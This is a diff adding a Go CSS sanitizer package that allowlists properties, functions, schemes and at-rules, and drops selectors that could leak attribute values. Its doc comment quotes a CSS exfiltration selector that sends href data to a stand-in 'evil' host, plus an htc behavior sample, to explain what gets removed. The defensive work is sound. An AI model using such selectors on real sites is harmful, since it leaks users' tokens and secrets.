@@ -0,0 +1,736 @@
+/*
+Package sanitize removes anything unsafe from untrusted css leaving the
+rest in place.
+
+	s := sanitize.New()
+	s.AllowProperties("position", "z-index")
+	clean := s.Style(`color: red; behavior: url(x.htc)`) // color: red
+
+Sanitizing works on the token stream so escapes and comments can't hide
+anything from it. Only allowlisted properties, functions and at-rules are
+kept and url()s must be relative or use an allowlisted scheme.
+Protocol relative urls like //example.com/a.png need both http and https
+to be allowed. Anything else drops the enclosing declaration, rule or
+at-rule. Idents, strings and urls are written out unescaped and requoted so
+the output never depends on escapes and never contains a < that could
+close a <style> element. @import, @namespace, @charset and @document rules
+are always dropped.
+
+When urls can load from other hosts rules with attribute selectors that
+compare the value of attributes like value or href are dropped too.
+Otherwise a[href^="https://bank"] { background: url(https://evil/leak) }
+would leak the attribute a character at a time.
+
+The content property isn't allowed by default since it adds text to the
+page. Its strings are escaped like any other when it is allowed.
+*/
+package sanitize
+
+import (
+	"fmt"
+	"net/url"
+	"strings"
+	"unicode"
+
+	"go.marzhillstudios.com/pkg/go-html-transform/css/tokenizer"
+)
+
+// maxDepth is how deeply blocks can nest before they are dropped.
+const maxDepth = 32
+
+// Sanitizer sanitizes css against its allowlists.
+type Sanitizer struct {
+	properties       map[string]bool
+	customProperties bool
+	functions        map[string]bool
+	schemes          map[string]bool
+	atRules          map[string]bool
+}
+
+// New constructs a Sanitizer with the default allowlists. They cover the
+// presentational properties but not those like position that can
+// overlay the rest of the page, http and https urls, the usual value
+// functions and the @media, @supports, @container, @layer and @keyframes
+// at-rules.
+func New() *Sanitizer {
+	s := &Sanitizer{
+		properties: map[string]bool{},
+		functions:  map[string]bool{},
+		schemes:    map[string]bool{},
+		atRules:    map[string]bool{},
+	}
+	s.AllowProperties(defaultProperties...)
+	s.AllowFunctions(defaultFunctions...)
+	s.AllowSchemes("http", "https")
+	s.AllowAtRules("media", "supports", "container", "layer", "keyframes", "-webkit-keyframes")
+	return s
+}
+
+// AllowProperties adds properties to the allowlist.
+func (s *Sanitizer) AllowProperties(props ...string) {
+	for _, p := range props {
+		s.properties[strings.ToLower(p)] = true
+	}
+}
+
+// AllowCustomProperties allows every custom property like --main-color.
+// Their values are sanitized like any other.
+func (s *Sanitizer) AllowCustomProperties() {
+	s.customProperties = true
+}
+
+// AllowFunctions adds functions, eg: rgb, to the allowlist. url() is
+// always allowed subject to the url's scheme.
+func (s *Sanitizer) AllowFunctions(names ...string) {
+	for _, n := range names {
+		s.functions[strings.ToLower(n)] = true
+	}
+}
+
+// AllowSchemes adds url schemes, eg: data, to the allowlist. Relative
+// urls are always allowed.
+func (s *Sanitizer) AllowSchemes(schemes ...string) {
+	for _, sc := range schemes {
+		s.schemes[strings.ToLower(sc)] = true
+	}
+}
+
+// AllowAtRules adds at-rules, eg: font-face, to the allowlist. The
+// at-rules that load other resources like @import can't be allowed.
+func (s *Sanitizer) AllowAtRules(names ...string) {
+	for _, n := range names {
+		s.atRules[strings.ToLower(strings.TrimPrefix(n, "@"))] = true
+	}
+}
+
+// Style sanitizes the contents of a style attribute.
+func (s *Sanitizer) Style(src string) string {
+	st, err := newStream(src)
+	if err != nil {
+		return ""
+	}
+	var decls []string
+	for {
+		d, ok := s.blockItem(st, nil, 0, false)
+		switch {
+		case ok && d != "":
+			decls = append(decls, d)
+		case !ok && st.peek() == nil:
+			return strings.Join(decls, "; ")
+		case !ok:
+			// A stray } ends nothing in a style attribute.
+			st.i++
+		}
+	}
+}
+
+// Stylesheet sanitizes a stylesheet like the contents of a <style>
+// element.
+func (s *Sanitizer) Stylesheet(src string) string {
+	st, err := newStream(src)
+	if err != nil {
+		return ""
+	}
+	return strings.Join(s.rules(st, 0, true), "\n")
+}
+
+// stream is a cursor over the tokens of the css being sanitized.
+type stream struct {
+	toks []*tokenizer.Token
+	i    int
+}
+
+func newStream(src string) (*stream, error) {
+	st := &stream{}
+	tk := tokenizer.New(strings.NewReader(src))
+	for {
+		t, err := tk.Next()
+		if err != nil {
+			return nil, err
+		}
+		if t == nil {
+			return st, nil
+		}
+		st.toks = append(st.toks, t)
+	}
+}
+
+func (st *stream) peek() *tokenizer.Token {
+	if st.i < len(st.toks) {
+		return st.toks[st.i]
+	}
+	return nil
+}
+
+func isSpace(t *tokenizer.Token) bool {
+	switch t.Type {
+	case tokenizer.WS, tokenizer.Comment, tokenizer.BadComment, tokenizer.CDO, tokenizer.CDC:
+		return true
+	}
+	return false
+}
+
+func (st *stream) skipSpace() {
+	for st.i < len(st.toks) && isSpace(st.toks[st.i]) {
+		st.i++
+	}
+}
+
+// closer returns the text of the token closing a block opened by t.
+func closer(t *tokenizer.Token) (string, bool) {
+	switch t.Type {
+	case tokenizer.LBrace:
+		return "}", true
+	case tokenizer.LParen, tokenizer.Function:
+		return ")", true
+	case tokenizer.LBracket:
+		return "]", true
+	}
+	return "", false
+}
+
+// is returns true if t is the punctuation token with the text text.
+func is(t *tokenizer.Token, text string) bool {
+	switch t.Type {
+	case tokenizer.Semicolon, tokenizer.LBrace, tokenizer.RBrace, tokenizer.RParen, tokenizer.RBracket:
+		return t.Text() == text
+	}
+	return false
+}
+
+// component consumes one component value: a token or a whole block.
+// http://www.w3.org/TR/css-syntax-3/#consume-a-component-value
+func (st *stream) component() {
+	t := st.toks[st.i]
+	st.i++
+	end, ok := closer(t)
+	if !ok {
+		return
+	}
+	for st.i < len(st.toks) {
+		if is(st.toks[st.i], end) {
+			st.i++
+			return
+		}
+		st.component()
+	}
+}
+
+// until consumes component values until one of the punctuation tokens
+// stop or the end of the tokens. The stopping token isn't consumed.
+func (st *stream) until(stop string) []*tokenizer.Token {
+	start := st.i
+	for st.i < len(st.toks) {
+		for _, c := range stop {
+			if is(st.toks[st.i], string(c)) {
+				return st.toks[start:st.i]
+			}
+		}
+		st.component()
+	}
+	return st.toks[start:st.i]
+}
+
+// skipBlock consumes the {} block starting at the current token.
+func (st *stream) skipBlock() {
+	if t := st.peek(); t != nil && t.Type == tokenizer.LBrace {
+		st.component()
+	}
+}
+
+// rules sanitizes a list of rules until a } or the end of the tokens.
+// At the top level a stray } is dropped instead.
+func (s *Sanitizer) rules(st *stream, depth int, top bool) []string {
+	var out []string
+	for {
+		st.skipSpace()
+		t := st.peek()
+		switch {
+		case t == nil:
+			return out
+		case t.Type == tokenizer.RBrace:
+			if !top {
+				return out
+			}
+			st.i++
+			continue
+		}
+		var r string
+		if t.Type == tokenizer.AtKeyword {
+			r = s.atRule(st, depth)
+		} else {
+			r = s.qualifiedRule(st, depth, top)
+		}
+		if r != "" {
+			out = append(out, r)
+		}
+	}
+}
+
+// qualifiedRule sanitizes a selector and its block.
+func (s *Sanitizer) qualifiedRule(st *stream, depth int, top bool) string {
+	var prelude []*tokenizer.Token
+	if top {
+		prelude = st.until("{")
+	} else {
+		prelude = st.until("{};")
+	}
+	t := st.peek()
+	if t == nil || t.Type != tokenizer.LBrace {
+		if t != nil && t.Type == tokenizer.Semicolon {
+			st.i++
+		}
+		return ""
+	}
+	sel, ok := s.tokens(prelude, selectorContext)
+	if !ok || sel == "" || depth >= maxDepth || s.remote() && matchesValues(prelude) {
+		st.skipBlock()
+		return ""
+	}
+	block := s.declarationBlock(st, nil, depth+1)
+	if block == " { }" {
+		// Nothing is left to apply to the selector.
+		return ""
+	}
+	return sel + block
+}
+
+// declarationBlock sanitizes a {} block of declarations and nested rules.
+// The Declarations are checked against descriptors instead of the
+// property allowlist if it isn't nil.
+func (s *Sanitizer) declarationBlock(st *stream, descriptors map[string]bool, depth int) string {
+	st.i++
+	var items []string
+	var nested []string
+	for {
+		item, ok := s.blockItem(st, descriptors, depth, true)
+		if !ok {
+			break
+		}
+		switch {
+		case item == "":
+		case strings.HasSuffix(item, "}"):
+			nested = append(nested, item)
+		default:
+			items = append(items, item+";")
+		}
+	}
+	if t := st.peek(); t != nil {
+		st.i++
+	}
+	if len(nested) > 0 {
+		block := " {"
+		if len(items) > 0 {
+			block += " " + strings.Join(items, " ")
+		}
+		return block + "\n" + strings.Join(nested, "\n") + "\n}"
+	}
+	if len(items) == 0 {
+		return " { }"
+	}
+	return " { " + strings.Join(items, " ") + " }"
+}
+
+// blockItem sanitizes the next declaration, nested rule or at-rule in a
+// declaration block. It returns false at the } ending the block or the end
+// of the tokens. Nested rules are dropped unless nesting is true.
+func (s *Sanitizer) blockItem(st *stream, descriptors map[string]bool, depth int, nesting bool) (string, bool) {
+	for {
+		st.skipSpace()
+		t := st.peek()
+		switch {
+		case t == nil || t.Type == tokenizer.RBrace:
+			return "", false
+		case t.Type == tokenizer.Semicolon:
+			st.i++
+			continue
+		case t.Type == tokenizer.AtKeyword:
+			if !nesting {
+				st.until("{;}")
+				st.skipBlock()
+				return "", true
+			}
+			return s.atRule(st, depth), true
+		}
+		start := st.i
+		toks := st.until(";}{")
+		if t := st.peek(); t != nil && t.Type == tokenizer.LBrace {
+			if !nesting || descriptors != nil {
+				st.skipBlock()
+				return "", true
+			}
+			st.i = start
+			return s.qualifiedRule(st, depth, false), true
+		}
+		return s.declaration(toks, descriptors), true
+	}
+}
+
+// declaration sanitizes a single declaration.
+func (s *Sanitizer) declaration(toks []*tokenizer.Token, descriptors map[string]bool) string {
+	toks = trimSpace(toks)
+	if len(toks) < 2 || toks[0].Type != tokenizer.Ident {
+		return ""
+	}
+	name, ok := plainIdent(toks[0].String)
+	if !ok {
+		return ""
+	}
+	name = strings.ToLower(name)
+	switch {
+	case descriptors != nil:
+		ok = descriptors[name]
+	case strings.HasPrefix(name, "--"):
+		ok = s.customProperties
+	default:
+		ok = s.properties[name]
+	}
+	if !ok {
+		return ""
+	}
+	rest := trimSpace(toks[1:])
+	if len(rest) == 0 || rest[0].Type != tokenizer.Colon {
+		return ""
+	}
+	value, important := stripImportant(trimSpace(rest[1:]))
+	v, ok := s.tokens(value, valueContext)
+	if !ok || v == "" {
+		return ""
+	}
+	if important {
+		v += " !important"
+	}
+	return name + ": " + v
+}
+
+func trimSpace(toks []*tokenizer.Token) []*tokenizer.Token {
+	for len(toks) > 0 && isSpace(toks[0]) {
+		toks = toks[1:]
+	}
+	for len(toks) > 0 && isSpace(toks[len(toks)-1]) {
+		toks = toks[:len(toks)-1]
+	}
+	return toks
+}
+
+// stripImportant removes a trailing !important from a value.
+func stripImportant(toks []*tokenizer.Token) ([]*tokenizer.Token, bool) {
+	n := len(toks)
+	if n == 0 || toks[n-1].Type != tokenizer.Ident {
+		return toks, false
+	}
+	if name, ok := plainIdent(toks[n-1].String); !ok || !strings.EqualFold(name, "important") {
+		return toks, false
+	}
+	rest := trimSpace(toks[:n-1])
+	if len(rest) == 0 || rest[len(rest)-1].Type != tokenizer.Delim || rest[len(rest)-1].String != "!" {
+		return toks, false
+	}
+	return trimSpace(rest[:len(rest)-1]), true
+}
+
+// atRule sanitizes an at-rule and its block if it has one.
+func (s *Sanitizer) atRule(st *stream, depth int) string {
+	t := st.toks[st.i]
+	st.i++
+	prelude := st.until("{;}")
+	name, ok := plainIdent(t.String[1:])
+	name = strings.ToLower(name)
+	allowed := ok && s.atRules[name] && !blockedAtRules[name] && depth < maxDepth
+	p, ok := s.tokens(prelude, valueContext)
+	next := st.peek()
+	switch {
+	case !allowed || !ok:
+		if next != nil && next.Type == tokenizer.Semicolon {
+			st.i++
+		}
+		st.skipBlock()
+		return ""
+	case next == nil || next.Type != tokenizer.LBrace:
+		if next != nil && next.Type == tokenizer.Semicolon {
+			st.i++
+		}
+		if p == "" {
+			return ""
+		}
+		return "@" + name + " " + p + ";"
+	}
+	head := "@" + name
+	if p != "" {
+		head += " " + p
+	}
+	if descriptors, ok := descriptorAtRules[name]; ok {
+		return head + s.declarationBlock(st, descriptors, depth+1)
+	}
+	st.i++
+	rules := s.rules(st, depth+1, false)
+	if st.peek() != nil {
+		st.i++
+	}
+	if len(rules) == 0 {
+		return ""
+	}
+	return head + " {\n" + strings.Join(rules, "\n") + "\n}"
+}
+
+type context int
+
+const (
+	valueContext context = iota
+	selectorContext
+)
+
+// tokens sanitizes a value, selector or at-rule prelude. It returns false
+// if they contain anything that isn't allowed.
+func (s *Sanitizer) tokens(toks []*tokenizer.Token, ctx context) (string, bool) {
+	toks = trimSpace(toks)
+	var b strings.Builder
+	var closers []string
+	space := false
+	for i := 0; i < len(toks); i++ {
+		t := toks[i]
+		if isSpace(t) {
+			space = true
+			continue
+		}
+		if space {
+			b.WriteByte(' ')
+			space = false
+		}
+		if end, ok := closer(t); ok {
+			closers = append(closers, end)
+			if t.Type == tokenizer.Function {
+				name, ok := plainIdent(strings.TrimSuffix(t.String, "("))
+				if !ok {
+					return "", false
+				}
+				name = strings.ToLower(name)
+				if name == "url" {
+					u, n, ok := s.urlFunction(toks[i+1:])
+					if !ok {
+						return "", false
+					}
+					b.WriteString(u)
+					closers = closers[:len(closers)-1]
+					i += n
+					continue
+				}
+				if ctx == valueContext && !s.functions[name] {
+					return "", false
+				}
+				b.WriteString(name + "(")
+				continue
+			}
+			b.WriteString(t.Text())
+			continue
+		}
+		switch t.Type {
+		case tokenizer.RParen, tokenizer.RBracket:
+			if len(closers) == 0 || closers[len(closers)-1] != t.Text() {
+				return "", false
+			}
+			closers = closers[:len(closers)-1]
+			b.WriteString(t.Text())
+			continue
+		}
+		out, ok := s.token(t, ctx)
+		if !ok {
+			return "", false
+		}
+		b.WriteString(out)
+	}
+	if len(closers) > 0 {
+		return "", false
+	}
+	return b.String(), true
+}
+
+// token sanitizes a single token that doesn't open or close a block.
+func (s *Sanitizer) token(t *tokenizer.Token, ctx context) (string, bool) {
+	switch t.Type {
+	case tokenizer.Ident:
+		return plainIdent(t.String)
+	case tokenizer.Hash:
+		name := tokenizer.Unescape(t.String[1:])
+		if name == "" || !isNameString(name) {
+			return "", false
+		}
+		return "#" + name, true
+	case tokenizer.Number, tokenizer.Percentage:
+		return t.String, true
+	case tokenizer.Dimension:
+		num, unit := tokenizer.SplitNumeric(t.String)
+		unit, ok := plainIdent(unit)
+		return num + unit, ok
+	case tokenizer.String:
+		return quote(unquote(t.String)), true
+	case tokenizer.Uri:
+		u, ok := s.url(uriValue(t.String))
+		return u, ok
+	case tokenizer.UnicodeRange, tokenizer.Comma, tokenizer.Colon:
+		return t.Text(), true
+	case tokenizer.Delim:
+		if ctx == selectorContext {
+			return t.String, strings.Contains(".>+~*|&", t.String)
+		}
+		return t.String, strings.Contains("/+-*", t.String)
+	case tokenizer.Includes, tokenizer.Dashmatch, tokenizer.Prefixmatch,
+		tokenizer.Suffixmatch, tokenizer.SubstringMatch, tokenizer.Column:
+		return t.Text(), ctx == selectorContext
+	}
+	return "", false
+}
+
+// urlFunction sanitizes the string argument of a url( function token. It
+// returns the number of tokens consumed after the function token.
+func (s *Sanitizer) urlFunction(toks []*tokenizer.Token) (string, int, bool) {
+	i := 0
+	for i < len(toks) && isSpace(toks[i]) {
+		i++
+	}
+	if i == len(toks) || toks[i].Type != tokenizer.String {
+		return "", 0, false
+	}
+	arg := unquote(toks[i].String)
+	i++
+	for i < len(toks) && isSpace(toks[i]) {
+		i++
+	}
+	if i == len(toks) || toks[i].Type != tokenizer.RParen {
+		return "", 0, false
+	}
+	u, ok := s.url(arg)
+	return u, i + 1, ok
+}
+
+// url sanitizes the url u returning it as a quoted url().
+func (s *Sanitizer) url(u string) (string, bool) {
+	// Browsers strip leading and trailing controls and spaces and any tabs
+	// or newlines from urls before parsing them.
+	u = strings.TrimFunc(u, func(r rune) bool { return r <= ' ' })
+	u = strings.Map(func(r rune) rune {
+		if r == '\t' || r == '\n' || r == '\r' {
+			return -1
+		}
+		return r
+	}, u)
+	parsed, err := url.Parse(u)
+	if err != nil || strings.ContainsRune(u, '\\') {
+		return "", false
+	}
+	if parsed.Scheme != "" && !s.schemes[strings.ToLower(parsed.Scheme)] {
+		return "", false
+	}
+	if parsed.Scheme == "" && (parsed.Host != "" || strings.HasPrefix(u, "//")) &&
+		!(s.schemes["http"] && s.schemes["https"]) {
+		// Protocol relative urls use the scheme of the page.
+		return "", false
+	}
+	return "url(" + quote(u) + ")", true
+}
+
+// remote returns true if the allowed schemes can load urls from other
+// hosts.
+func (s *Sanitizer) remote() bool {
+	for sc := range s.schemes {
+		if sc != "data" {
+			return true
+		}
+	}
+	return false
+}
+
+// valueAttributes are the attributes whose values can hold secrets like a
+// csrf token in an <input value> or a <meta content>.
+var valueAttributes = map[string]bool{
+	"value": true, "content": true, "href": true, "src": true, "srcset": true,
+	"action": true, "formaction": true, "data": true, "nonce": true,
+}
+
+// matchesValues returns true if the selector toks compares the value of
+// one of the valueAttributes or a data- attribute.
+func matchesValues(toks []*tokenizer.Token) bool {
+	var name string
+	inAttr := false
+	for _, t := range toks {
+		switch {
+		case t.Type == tokenizer.LBracket:
+			inAttr, name = true, ""
+		case t.Type == tokenizer.RBracket:
+			inAttr = false
+		case !inAttr:
+		case t.Type == tokenizer.Ident:
+			name = strings.ToLower(tokenizer.Unescape(t.String))
+		case t.Type == tokenizer.Includes, t.Type == tokenizer.Dashmatch, t.Type == tokenizer.Prefixmatch,
+			t.Type == tokenizer.Suffixmatch, t.Type == tokenizer.SubstringMatch, t.Type == tokenizer.Delim && t.String == "=":
+			if valueAttributes[name] || strings.HasPrefix(name, "data-") {
+				return true
+			}
+			// Skip the compared value.
+			inAttr = false
+		}
+	}
+	return false
+}
+
+// uriValue returns the url in a url() token.
+func uriValue(s string) string {
+	s = strings.TrimSpace(s[4 : len(s)-1])
+	if len(s) > 0 && (s[0] == '"' || s[0] == '\'') {
+		return unquote(s)
+	}
+	return tokenizer.Unescape(s)
+}
+
+// plainIdent unescapes an ident returning false if it has anything but
+// letters, digits, - and _ or it would tokenize differently unescaped.
+func plainIdent(s string) (string, bool) {
+	s = tokenizer.Unescape(s)
+	if !isNameString(s) {
+		return "", false
+	}
+	rest := strings.TrimPrefix(s, "-")
+	if rest == "" || rest[0] >= '0' && rest[0] <= '9' {
+		return "", false
+	}
+	return s, true
+}
+
+func isNameString(s string) bool {
+	for _, r := range s {
+		if r != '-' && r != '_' && !unicode.IsLetter(r) && !unicode.IsDigit(r) {
+			return false
+		}
+	}
+	return true
+}
+
+// unquote strips the quotes from a string token and resolves its escapes.
+func unquote(s string) string {
+	q := s[0]
+	s = s[1:]
+	if len(s) > 0 && s[len(s)-1] == q {
+		s = s[:len(s)-1]
+	}
+	return tokenizer.Unescape(s)
+}
+
+// quote returns s as a double quoted css string escaping the characters
+// that could end the string or the surrounding markup.
+func quote(s string) string {
+	var b strings.Builder
+	b.WriteByte('"')
+	for _, r := range s {
+		switch {
+		case r == '"' || r == '\\':
+			b.WriteByte('\\')
+			b.WriteRune(r)
+		case r < ' ' || r == 0x7f || r == '<' || r == '>' || r == '&' || r == '\'':
+			fmt.Fprintf(&b, "\\%x ", r)
+		default:
+			b.WriteRune(r)
+		}
+	}
+	b.WriteByte('"')
+	return b.String()
+}